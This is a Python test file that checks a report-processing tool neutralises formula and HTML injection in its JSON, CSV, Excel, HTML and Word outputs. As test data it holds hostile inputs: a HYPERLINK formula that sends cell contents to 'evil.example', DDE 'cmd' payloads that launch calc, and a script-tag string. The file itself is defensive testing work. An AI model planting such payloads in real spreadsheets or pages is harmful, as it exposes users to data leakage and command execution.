"""Formula injection: text a department typed ("=HYPERLINK(…)", "+cmd|…", "@SUM(…)", "-1+1")
stays text in every output we write: report JSON, findings.csv (neutralised), findings.xlsx,
the annotated and the summary workbooks (string cells, never formulas), values.csv, HTML
(escaped) and DOCX (plain runs, no fields or links)."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import docx
import openpyxl
import pytest

from test_reader import edited, input_cell, render, sample_report
from tianbao.document.publish import publish
from tianbao.form import Form
from tianbao.report import Report
from tianbao.stages.annotate import annotate
from tianbao.stages.batch import FINDINGS_CSV, FINDINGS_XLSX, import_batch
from tianbao.stages.merge import VALUES_CSV, MergeOptions, merge
from tianbao.stages.summary import write_outputs

NAME = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
PAYLOADS = {
    ("basic", "preparer"): "+cmd|' /C calc'!A0",
    ("basic", "phone"): "-1+1",
    ("basic", "reviewer"): "@SUM(A1:A9)",
    ("overview", "proactive"): "=1+1 <script>alert(1)</script> & \"引号\" <b>粗</b>",
}
IN_COUNT_CELL = "=cmd|' /C calc'!A0"
EVERY = [NAME, IN_COUNT_CELL, *PAYLOADS.values()]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_report(form: Form, code: str) -> Report:
    report = sample_report(form, code=code, name=NAME)
    for (section, field), text in PAYLOADS.items():
        report.fields[section][field] = text
    return report


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory, form: Form) -> dict[str, Path]:
    """One accepted and one rejected workbook carrying the payloads, imported, annotated,
    merged and published."""
    root = tmp_path_factory.mktemp("injection")
    inbox = root / "inbox"
    inbox.mkdir()
    accepted = inbox / "=accepted.xlsx"  # the file name is the department's text too
    accepted.write_bytes(render(form, hostile_report(form, "X01")))
    count = input_cell(form, "t3", "new", "natural_person")
    rejected = inbox / "+rejected.xlsx"
    rejected.write_bytes(edited(render(form, hostile_report(form, "X02")),
                                lambda book: book[count.sheet].__setitem__(count.a1, IN_COUNT_CELL)))
    out = root / "out"
    result = import_batch([accepted, rejected], form, out)
    assert [o.source.name for o in result.accepted] == [accepted.name]
    annotated = root / "annotated.xlsx"
    annotate(rejected, form, annotated)
    roster = root / "roster.csv"
    level = form.identity_section_choices("unit_level")[1]
    roster.write_text(f'code,name,level\nX01,"{NAME.replace(chr(34), chr(34) * 2)}",{level}\n', encoding="utf-8")
    merged = root / "merged"
    write_outputs(merge(form, [out], roster, MergeOptions(unit_name="测试区", unit_code="Q1")), merged)
    report_json = result.written[accepted]
    html = root / "report.html"
    publish(report_json, html)
    word = root / "report.docx"
    publish(report_json, word)
    return {"json": report_json, "out": out, "annotated": annotated, "merged": merged, "html": html, "docx": word}


def test_json_keeps_the_text_exactly(outputs: dict[str, Path]) -> None:
    report = json.loads(outputs["json"].read_text(encoding="utf-8"))
    assert report["unit"]["name"] == NAME
    for (section, field), text in PAYLOADS.items():
        assert report["fields"][section][field] == text


def test_findings_csv_neutralises_every_cell(outputs: dict[str, Path]) -> None:
    text = (outputs["out"] / FINDINGS_CSV).read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(FORMULA_START) for cell in cells)
    assert "'" + IN_COUNT_CELL in cells and "'+rejected.xlsx" in cells


def _string_cells(path: Path) -> list[tuple[str, str, object, str]]:
    """(sheet, coordinate, value, data type) of every non-empty cell."""
    book = openpyxl.load_workbook(path)
    return [(sheet.title, cell.coordinate, cell.value, cell.data_type)
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_text_only(path: Path, expected: list[str]) -> None:
    cells = _string_cells(path)
    for payload in expected:
        holding = [c for c in cells if isinstance(c[2], str) and payload in c[2]]
        assert holding, (path.name, payload)
        assert all(c[3] == "s" for c in holding), holding
    formulas = [str(c[2]) for c in cells if c[3] == "f"]
    assert not any(marker in formula for formula in formulas for marker in ("HYPERLINK", "cmd", "A1:A9", "1+1"))


def test_findings_workbook_holds_text_not_formulas(outputs: dict[str, Path]) -> None:
    assert_text_only(outputs["out"] / FINDINGS_XLSX, [IN_COUNT_CELL, "=accepted.xlsx", "+rejected.xlsx"])


def test_annotated_workbook_holds_text_not_formulas(outputs: dict[str, Path]) -> None:
    assert_text_only(outputs["annotated"], EVERY)


def test_summary_workbook_and_values_csv_hold_text_not_formulas(outputs: dict[str, Path]) -> None:
    merged = outputs["merged"]
    workbook = next(merged.glob("*.xlsx"))
    assert_text_only(workbook, [NAME])
    rows = list(csv.reader(io.StringIO((merged / VALUES_CSV).read_text(encoding="utf-8-sig"))))
    assert not any(cell.startswith(FORMULA_START) for row in rows for cell in row)
    assert any("'" + NAME in row for row in rows)


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.text: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_escapes_the_text(outputs: dict[str, Path]) -> None:
    page = outputs["html"].read_text(encoding="utf-8")
    parsed = _Text()
    parsed.feed(page)
    assert "script" not in parsed.tags and "b" not in parsed.tags
    shown = "".join(parsed.text)
    assert "<script>alert(1)</script>" in shown and NAME in shown
    assert "<script>" not in page


def test_docx_holds_plain_text(outputs: dict[str, Path]) -> None:
    document = docx.Document(str(outputs["docx"]))
    shown = "\n".join(p.text for p in document.paragraphs)
    assert PAYLOADS[("overview", "proactive")] in shown and NAME in shown
    with zipfile.ZipFile(outputs["docx"]) as archive:
        xml = "".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".xml"))
        links = "".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".rels"))
    # The only fields are the page numbers the publisher puts in the footer.
    fields = re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", xml)
    assert {f.strip() for f in fields} <= {"PAGE", "NUMPAGES"}
    assert "<w:fldSimple" not in xml and "<w:hyperlink" not in xml
    assert "evil.example" not in links
